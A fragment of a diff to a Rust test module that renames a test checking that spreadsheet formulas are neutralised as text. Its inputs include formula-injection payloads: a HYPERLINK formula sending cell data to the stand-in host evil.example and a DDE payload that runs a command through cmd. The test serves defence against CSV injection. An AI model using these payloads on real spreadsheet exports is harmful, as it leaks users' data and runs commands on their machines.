@@ -29,7 +29,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn formulas_are_text_and_numbers_are_numbers() {
+    fn formulas_become_text_and_numbers_stay_numbers() {
         for formula in [
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
             "+1+cmd|' /C calc'!A0",
